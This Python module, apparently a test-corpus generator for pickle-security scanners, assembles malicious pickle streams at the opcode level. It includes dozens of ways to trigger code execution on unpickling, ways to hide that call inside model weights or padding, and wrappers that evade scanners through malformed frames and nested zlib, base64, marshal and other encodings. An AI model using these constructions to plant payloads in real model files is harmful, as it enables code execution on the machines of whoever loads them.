"""How a composed attack calls what it named, and where in the stream it does so.

A calling is a function (callable, [arguments]) -> opcodes of the call. A setting is a
function of those opcodes that puts them somewhere in an object. A stream is a function
of the object's opcodes that makes a whole pickle (or several).
"""

import base64
import bz2
import gzip
import lzma
import struct
import zlib

from attacks_pickle import (APPEND, APPENDS, BUILD, EMPTY_DICT, EMPTY_LIST, EMPTY_TUPLE, MARK, MEMOIZE, NEWOBJ, NEWOBJ_EX,
                            NONE, POP, REDUCE, SETITEM, STOP, T2, TUPLE, blob, call, call_on, frame, framed, get, getattr_of,
                            integer, joblib_stream, listing, mapping, name, pack, pickle, proto, stack_name, text,
                            torch_legacy, torch_tensor)


def joined(items):
    return MARK + b"".join(items) + TUPLE


def first(items):
    return items[0] if items else NONE


def columns(items):
    return [listing(item) for item in items] or [listing(NONE)]


def keyword(module, attribute, positional, **named):
    """functools.partial with keywords, made by NEWOBJ_EX, then called."""
    return (name("functools", "partial") + pack(name(module, attribute), *positional)
            + mapping(*((text(key), value) for key, value in named.items())) + NEWOBJ_EX + EMPTY_TUPLE + REDUCE)


def planted(attribute, function):
    """An object without slots, one attribute of it planted by BUILD."""
    return name("collections", "UserList") + EMPTY_TUPLE + NEWOBJ + mapping((text(attribute), function)) + BUILD


def made_class(method, function, base="object"):
    return call("builtins", "type", text("X"), pack(name("builtins", base)), mapping((text(method), function)))


def bound(function, items):
    return call("functools", "partial", function, *items)


CALLINGS = {
    "reduce": lambda f, a: f + joined(a) + REDUCE,
    "obj": lambda f, a: MARK + f + b"".join(a) + b"o",
    "newobj": lambda f, a: f + joined(a) + NEWOBJ,
    "newobj_ex": lambda f, a: f + joined(a) + EMPTY_DICT + NEWOBJ_EX,
    "partial_call": lambda f, a: bound(f, a) + EMPTY_TUPLE + REDUCE,
    "partial_newobj": lambda f, a: name("functools", "partial") + joined([f, *a]) + NEWOBJ + EMPTY_TUPLE + REDUCE,
    "partial_state": lambda f, a: name("functools", "partial") + pack(name("builtins", "print")) + NEWOBJ
    + MARK + f + joined(a) + EMPTY_DICT + EMPTY_DICT + TUPLE + BUILD + EMPTY_TUPLE + REDUCE,
    "partial_method": lambda f, a: call("functools", "partialmethod", f, *a),
    "list_map": lambda f, a: call("builtins", "list", call("builtins", "map", f, *columns(a))),
    "bytes_map_newobj": lambda f, a: name("builtins", "bytes") + pack(name("builtins", "map") + joined([f, *columns(a)]) + NEWOBJ) + NEWOBJ,
    "deque_map": lambda f, a: call("collections", "deque", call("builtins", "map", f, *columns(a))),
    "set_map": lambda f, a: call("builtins", "frozenset", call("builtins", "map", f, *columns(a))),
    "extend_map": lambda f, a: call_on(getattr_of(EMPTY_LIST, "extend"), call("builtins", "map", f, *columns(a))),
    "join_map": lambda f, a: call_on(stack_name("builtins", "str.join"), text(""), call("builtins", "map", f, *columns(a))),
    "in_map": lambda f, a: call("operator", "contains", call("builtins", "map", f, *columns(a)), integer(7)),
    "filter": lambda f, a: call("builtins", "tuple", call("builtins", "filter", f, listing(first(a)))),
    "starmap": lambda f, a: call("collections", "deque", call("itertools", "starmap", f, listing(joined(a)))),
    "accumulate": lambda f, a: call("builtins", "tuple", call("itertools", "accumulate", listing(first(a), NONE), f)),
    "takewhile": lambda f, a: call("builtins", "list", call("itertools", "takewhile", f, listing(first(a)))),
    "groupby": lambda f, a: call("builtins", "list", call("itertools", "groupby", listing(first(a)), f)),
    "functools_reduce": lambda f, a: call("functools", "reduce", f, listing(first(a), NONE)),
    "iter_sentinel": lambda f, a: call("builtins", "next", call("builtins", "iter", bound(f, a), NONE)),
    "sorted_key": lambda f, a: keyword("builtins", "sorted", [listing(first(a))], key=f),
    "max_key": lambda f, a: keyword("builtins", "max", [listing(first(a), NONE)], key=f),
    "counter_missing": lambda f, a: call("operator", "getitem", call("collections", "defaultdict", bound(f, a)), integer(1)),
    "factory_state": lambda f, a: name("collections", "defaultdict") + pack(bound(f, a)) + REDUCE + integer(1) + integer(1) + SETITEM,
    "class_missing": lambda f, a: call("operator", "getitem", call_on(made_class("__missing__", f, "dict")), first(a)),
    "class_del": lambda f, a: call_on(made_class("__del__", f)),
    "class_init_subclass": lambda f, a: made_class("__init_subclass__", f),
    "class_set_name": lambda f, a: call("builtins", "type", text("X"), EMPTY_TUPLE, mapping((text("x"), planted("__set_name__", f)))),
    "class_hash_key": lambda f, a: EMPTY_DICT + call_on(made_class("__hash__", f)) + NONE + SETITEM,
    "class_setstate": lambda f, a: call_on(made_class("__setstate__", f)) + first(a) + BUILD,
    "planted_setstate": lambda f, a: planted("__setstate__", f) + first(a) + BUILD,
    "planted_slots": lambda f, a: name("collections", "UserList") + EMPTY_TUPLE + NEWOBJ
    + NONE + mapping((text("__setstate__"), f)) + T2 + BUILD + first(a) + BUILD,
    "planted_append": lambda f, a: planted("append", f) + first(a) + APPEND,
    "planted_extend": lambda f, a: planted("extend", f) + MARK + first(a) + APPENDS,
    "planted_add": lambda f, a: planted("add", f) + MARK + first(a) + b"\x90",
    "planted_reduce": lambda f, a: call("copy", "copy", planted("__reduce_ex__", f)),
    "planted_deepcopy": lambda f, a: call("copy", "deepcopy", planted("__deepcopy__", f)),
    "class_rewritten": lambda f, a: name("collections", "OrderedDict") + NONE + mapping((text("__setitem__"), f)) + T2 + BUILD
    + EMPTY_TUPLE + REDUCE + text("x") + first(a) + SETITEM,
    "class_dict_rewritten": lambda f, a: name("logging", "Formatter") + mapping((text("__init__"), f)) + BUILD + POP
    + call("logging", "Formatter", first(a)),
    "copyreg_newobj": lambda f, a: call("copyreg", "__newobj__", f, *a),
    "copyreg_newobj_ex": lambda f, a: call("copyreg", "__newobj_ex__", f, joined(a), EMPTY_DICT),
    "copyreg_reconstructor": lambda f, a: call("copyreg", "_reconstructor", f, name("builtins", "object"), NONE),
    "copyreg_table": lambda f, a: name("copyreg", "dispatch_table") + name("builtins", "int") + f + SETITEM,
    "copyreg_pickle": lambda f, a: call("copyreg", "pickle", name("builtins", "int"), f),
    "methodcaller": lambda f, a: call_on(call("operator", "methodcaller", text("__call__"), *a), f),
    "operator_call": lambda f, a: call("operator", "call", f, *a),
    "dunder_call": lambda f, a: getattr_of(f, "__call__") + joined(a) + REDUCE,
    "call_of_partial": lambda f, a: stack_name("functools", "partial.__call__") + joined([bound(f, []), *a]) + REDUCE,
    "method_type": lambda f, a: call("types", "MethodType", f, first(a)) + joined(a[1:]) + REDUCE,
    "types_coroutine": lambda f, a: call_on(call("types", "coroutine", f), *a[:1]),
    "property_get": lambda f, a: call_on(getattr_of(call("builtins", "property", f), "__get__"), first(a)),
    "property_fget": lambda f, a: call_on(getattr_of(call("builtins", "property", f), "fget"), first(a)),
    "classmethod_get": lambda f, a: call_on(call_on(getattr_of(call("builtins", "classmethod", f), "__get__"), NONE, name("builtins", "int"))),
    "cached_property": lambda f, a: call_on(getattr_of(call("functools", "cached_property", f), "func"), first(a)),
    "lru_cache": lambda f, a: call_on(call("functools", "lru_cache", f), *a[:2]),
    "wraps": lambda f, a: call_on(getattr_of(call_on(call("functools", "wraps", f), name("builtins", "print")), "__wrapped__"), *a[:2]),
    "singledispatch": lambda f, a: call_on(call("functools", "singledispatch", f), first(a)),
    "cmp_to_key": lambda f, a: keyword("builtins", "sorted", [listing(first(a), NONE)], key=call("functools", "cmp_to_key", f)),
    "weakref_finalize": lambda f, a: call("weakref", "finalize", name("collections", "OrderedDict"), f, *a),
    "weakref_callback": lambda f, a: call("weakref", "ref", call("collections", "OrderedDict"), f),
    "atexit": lambda f, a: call("atexit", "register", f, *a),
    "timer": lambda f, a: call_on(getattr_of(call("threading", "Timer", integer(0), f, listing(*a)), "start")),
    "thread": lambda f, a: call("_thread", "start_new_thread", f, joined(a)),
    "pool_map": lambda f, a: call_on(getattr_of(call("multiprocessing.pool", "ThreadPool", integer(1)), "map"), f, listing(first(a))),
    "executor": lambda f, a: call_on(getattr_of(call("concurrent.futures.thread", "ThreadPoolExecutor"), "submit"), f, *a[:1]),
    "call_soon": lambda f, a: call("asyncio.base_events", "BaseEventLoop.call_soon", NONE, f, *a[:1]),
    "exit_stack": lambda f, a: call("contextlib", "ExitStack.callback", NONE, f, *a[:1]),
    "settrace": lambda f, a: call("sys", "settrace", f),
    "audit_hook": lambda f, a: call("sys", "addaudithook", f),
    "excepthook": lambda f, a: call("builtins", "setattr", call("importlib", "import_module", text("sys")), text("excepthook"), f),
    "register_error": lambda f, a: call("codecs", "register_error", text("inert"), f),
    "register_codec": lambda f, a: call("codecs", "register", f),
    "signal": lambda f, a: call("signal", "signal", integer(14), f),
    "gc_callbacks": lambda f, a: call_on(stack_name("gc", "callbacks.append"), f),
    "showwarning": lambda f, a: name("warnings", "showwarning") + f + BUILD,
    "import_hook": lambda f, a: call_on(stack_name("sys", "path_hooks.append"), f),
    "re_sub": lambda f, a: call("re", "sub", text("x"), f, text("x")),
    "pattern_sub": lambda f, a: call_on(getattr_of(call("re", "compile", text(".")), "sub"), f, text("x")),
    "json_hook": lambda f, a: keyword("json", "loads", [text("{}")], object_hook=f),
    "json_constant": lambda f, a: keyword("json", "loads", [text("[1.5]")], parse_float=f),
    "logger_class": lambda f, a: call("logging", "setLoggerClass", f),
    "shuffle": lambda f, a: call("random", "shuffle", listing(first(a), NONE), f),
    "run_profiler": lambda f, a: call("cProfile", "Profile.runcall", NONE, f, *a[:1]),
    "timeit": lambda f, a: call("timeit", "timeit", f),
    "tree_map": lambda f, a: call("torch.utils._pytree", "tree_map", f, listing(first(a))),
    "from_type": lambda f, a: call("torch._tensor", "_rebuild_from_type_v2", f, name("torch", "Tensor"), joined(a), EMPTY_DICT),
    "checkpoint": lambda f, a: call("torch.utils.checkpoint", "checkpoint", f, *a[:1]),
    "register_hook": lambda f, a: call("torch", "Tensor.register_hook", torch_tensor(), f),
    "apply_module": lambda f, a: call("torch.nn.modules.module", "Module.apply", NONE, f),
    "torch_collate": lambda f, a: call("torch.utils.data.dataloader", "DataLoader", listing(), integer(1), NONE, NONE, NONE, integer(0), f),
    "vectorize": lambda f, a: call_on(call("numpy", "vectorize", f), listing(first(a))),
    "frompyfunc": lambda f, a: call_on(call("numpy", "frompyfunc", f, integer(1), integer(1)), first(a)),
    "along_axis": lambda f, a: call("numpy", "apply_along_axis", f, integer(0), listing(first(a))),
    "fromfunction": lambda f, a: call("numpy", "fromfunction", f, pack(integer(1))),
    "piecewise": lambda f, a: call("numpy", "piecewise", listing(integer(1)), listing(b"\x88"), listing(f)),
    "error_call": lambda f, a: call("numpy", "seterrcall", f),
    "frame_apply": lambda f, a: call("pandas.core.frame", "DataFrame.apply", call("pandas.core.frame", "DataFrame"), f),
    "series_map": lambda f, a: call_on(getattr_of(call("pandas.core.series", "Series", listing(first(a))), "map"), f),
    "pandas_pipe": lambda f, a: call("pandas.core.generic", "NDFrame.pipe", NONE, f),
    "delayed": lambda f, a: call_on(call("joblib.parallel", "delayed", f), *a[:1]),
    "transformer": lambda f, a: name("sklearn.preprocessing._function_transformer", "FunctionTransformer") + EMPTY_TUPLE + NEWOBJ
    + mapping((text("func"), f)) + BUILD,
    "sklearn_scorer": lambda f, a: name("sklearn.metrics._scorer", "_PredictScorer") + EMPTY_TUPLE + NEWOBJ
    + mapping((text("_score_func"), f)) + BUILD,
    "scipy_minimize": lambda f, a: call("scipy.optimize", "minimize", f, first(a)),
    "keras_lambda": lambda f, a: call("keras.layers.core.lambda_layer", "Lambda", f),
    "tf_py_function": lambda f, a: call("tensorflow", "py_function", f, listing(), NONE),
    "dill_setitems": lambda f, a: call("dill._dill", "_setitems", name("builtins", "__dict__"), mapping((text("print"), f))),
    "bare_value": lambda f, a: f,
}


# --- where the call stands -----------------------------------------------------------

WEIGHTS = mapping((text("layer.weight"), listing(integer(1), integer(2))), (text("layer.bias"), listing(integer(0))))

SETTINGS = {
    "bare": lambda c: c,
    "popped": lambda c: c + POP + NONE,
    "in_dict": lambda c: mapping((text("optimizer"), c), (text("epoch"), integer(3))),
    "in_list": lambda c: listing(integer(1), c),
    "in_tuple": lambda c: pack(integer(1), c, integer(2)),
    "in_old_dict": lambda c: MARK + text("a") + c + b"d",
    "in_old_list": lambda c: MARK + integer(1) + c + b"l",
    "in_set": lambda c: b"\x8f" + MARK + c + b"\x90",
    "in_frozenset": lambda c: MARK + c + b"\x91",
    "as_key": lambda c: EMPTY_DICT + c + NONE + SETITEM,
    "in_ordered": lambda c: call("collections", "OrderedDict") + text("w") + c + SETITEM,
    "in_state": lambda c: name("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + mapping((text("_metadata"), c)) + BUILD,
    "in_slots_state": lambda c: name("fractions", "Fraction") + EMPTY_TUPLE + NEWOBJ + NONE + mapping((text("_numerator"), c)) + T2 + BUILD,
    "in_arguments": lambda c: call("collections", "OrderedDict", listing(pack(text("w"), c))),
    "after_weights": lambda c: pack(WEIGHTS, c),
    "before_weights": lambda c: c + POP + WEIGHTS,
    "after_tensor": lambda c: pack(WEIGHTS, call("fractions", "Fraction", text("1/3")), c),
    "beside_tensor": lambda c: mapping((text("w"), torch_tensor()), (text("hook"), c)),
    "after_noise": lambda c: (integer(1) + POP) * 400 + c,
    "after_marks": lambda c: MARK * 40 + b"1" * 40 + c,
    "under_tuples": lambda c: c + b"\x85" * 60,
    "under_lists": lambda c: EMPTY_LIST * 60 + c + APPEND * 60,
    "in_memo_only": lambda c: c + b"q\x07" + POP + WEIGHTS,
    "memoized": lambda c: c + MEMOIZE + POP + WEIGHTS,
    "twice": lambda c: c + b"q\x08" + POP + listing(get(8), get(8)),
    "long_text_before": lambda c: text("w" * 3000) + POP + c,
    "bytes_before": lambda c: blob(bytes(range(256)) * 12) + POP + c,
}
# Calls that stand in places where only a thief puts one.
THIEVES_SETTINGS = {
    "persistent": lambda c: c + b"Q",
    "as_state": lambda c: name("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + c + BUILD,
    "as_module": lambda c: c + text("run") + b"\x93",
    "append_to_call": lambda c: c + integer(1) + APPEND,
    "unhashable": lambda c: c + POP + EMPTY_DICT + EMPTY_LIST + NONE + SETITEM,
    "build_number": lambda c: c + POP + integer(1) + mapping((text("a"), NONE)) + BUILD,
}


# --- streams --------------------------------------------------------------------------

PLAIN = pickle(WEIGHTS)

HONEST_STREAMS = {
    "bare": lambda body: body + STOP,
    "protocol_2": lambda body: pickle(body, 2),
    "protocol_3": lambda body: pickle(body, 3),
    "protocol_4": lambda body: pickle(body, 4),
    "protocol_5": lambda body: pickle(body, 5),
    "framed_4": framed,
    "framed_5": lambda body: framed(body, 5),
    "second": lambda body: PLAIN + pickle(body),
    "third": lambda body: PLAIN + pickle(integer(7), 4) + framed(body),
    "first": lambda body: pickle(body) + PLAIN,
}

STREAMS = HONEST_STREAMS | {
    "two_frames": lambda body: proto(4) + frame(body) + frame(STOP),
    "frame_too_long": lambda body: proto(4) + b"\x95" + struct.pack("<Q", 1 << 33) + body + STOP,
    "frame_too_short": lambda body: proto(4) + b"\x95" + struct.pack("<Q", 1) + body + STOP,
    "protocol_0_claimed": lambda body: b"\x80\x00" + body + STOP,
    "protocols": lambda body: proto(2) + proto(5) + body + proto(3) + STOP,
    "protocol_late": lambda body: proto(2) + body + b"\x80\x63" + STOP,
    "no_stop": lambda body: proto(4) + body,
    "bad_opcode": lambda body: proto(2) + body + b"\xff\xfe\xfd",
    "cut_text": lambda body: proto(4) + body + b"X\xff\xff\xff\x7fcut",
    "cut_argument": lambda body: proto(4) + body + b"J\x01",
    "underflow": lambda body: proto(2) + body + POP * 9 + REDUCE + STOP,
    "empty_stop": lambda body: proto(2) + body + POP + STOP,
    "no_memo": lambda body: proto(2) + body + get(250) + STOP,
    "bad_number": lambda body: proto(2) + body + b"Itwelve\n" + STOP,
    "bad_utf8": lambda body: proto(2) + body + b"X\x02\x00\x00\x00\xff\xff" + STOP,
    "bad_float": lambda body: proto(2) + body + b"Fnone\n" + STOP,
    "no_extension": lambda body: proto(2) + body + b"\x82\x07" + STOP,
    "huge_long": lambda body: proto(2) + body + b"\x8b\xff\xff\xff\x7f" + STOP,
    "no_buffer": lambda body: proto(5) + body + b"\x97" + STOP,
    "text_behind": lambda body: pickle(body) + b"This is a model card, not a pickle.\n",
    "zeros_behind": lambda body: pickle(body) + bytes(2000),
    "newlines_behind": lambda body: pickle(body) + b"\n" * 9,
    "many": lambda body: PLAIN * 60 + pickle(body),
    "padded": lambda body: pickle(b"T" + struct.pack("<i", 40000) + b"w" * 40000 + POP + body),
    "wide": lambda body: pickle(MARK + integer(5) * 3000 + b"1" + body),
    "legacy_torch": lambda body: torch_legacy(pickle(pack(mapping((text("w"), torch_tensor())), body))),
    "legacy_keys": lambda body: torch_legacy(pickle(mapping((text("w"), torch_tensor())))).replace(
        pickle(listing(text("0"))), pickle(body + POP + listing(text("0")))),
    "legacy_information": lambda body: pickle(b"\x8a\x0a\x6c\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19") + pickle(b"M\xe9\x03") + pickle(body)
    + pickle(NONE) + pickle(EMPTY_LIST),
    "joblib_after_array": joblib_stream,
    "nested_loads": lambda body: pickle(call("_pickle", "loads", blob(pickle(body)))),
    "nested_twice": lambda body: pickle(call("pickle", "loads", blob(pickle(call("pickle", "loads", blob(pickle(body))))))),
    "nested_storage": lambda body: pickle(call("torch.storage", "_load_from_bytes", blob(pickle(body)))),
    "nested_dill": lambda body: pickle(call("dill", "loads", blob(pickle(body)))),
    "nested_unpickler": lambda body: pickle(call_on(getattr_of(call("pickle", "Unpickler", call("io", "BytesIO", blob(pickle(body)))), "load"))),
    "nested_numpy": lambda body: pickle(keyword("numpy", "load", [call("io", "BytesIO", blob(pickle(body)))], allow_pickle=b"\x88")),
    "nested_joblib": lambda body: pickle(call("joblib", "load", call("io", "BytesIO", blob(pickle(body))))),
    "nested_pandas": lambda body: pickle(call("pandas", "read_pickle", call("io", "BytesIO", blob(pickle(body))))),
    "nested_text": lambda body: pickle(call("pickle", "loads", call("_codecs", "encode", text(pickle(body).decode("latin-1")), text("latin1")))),
    "nested_zlib": lambda body: pickle(call("pickle", "loads", call("zlib", "decompress", blob(zlib.compress(pickle(body)))))),
    "nested_gzip": lambda body: pickle(call("pickle", "loads", call("gzip", "decompress", blob(gzip.compress(pickle(body), mtime=0))))),
    "nested_bz2": lambda body: pickle(call("pickle", "loads", call("bz2", "decompress", blob(bz2.compress(pickle(body)))))),
    "nested_lzma": lambda body: pickle(call("pickle", "loads", call("lzma", "decompress", blob(lzma.compress(pickle(body)))))),
    "nested_base64": lambda body: pickle(call("pickle", "loads", call("base64", "b64decode", blob(base64.b64encode(pickle(body)))))),
    "nested_hex": lambda body: pickle(call("pickle", "loads", call_on(stack_name("builtins", "bytes.fromhex"), text(pickle(body).hex())))),
    "nested_joined": lambda body: pickle(call("pickle", "loads", call("operator", "concat", blob(pickle(body)[:9]), blob(pickle(body)[9:])))),
    "nested_reversed": lambda body: pickle(call("pickle", "loads", call("builtins", "bytes", call("builtins", "reversed", blob(pickle(body)[::-1]))))),
    "nested_buffer": lambda body: pickle(call("pickle", "loads", b"\x96" + struct.pack("<Q", len(pickle(body))) + pickle(body)), 5),
    "nested_marshal": lambda body: pickle(call("pickle", "loads", call("marshal", "loads", blob(b"s" + struct.pack("<i", len(pickle(body))) + pickle(body))))),
}
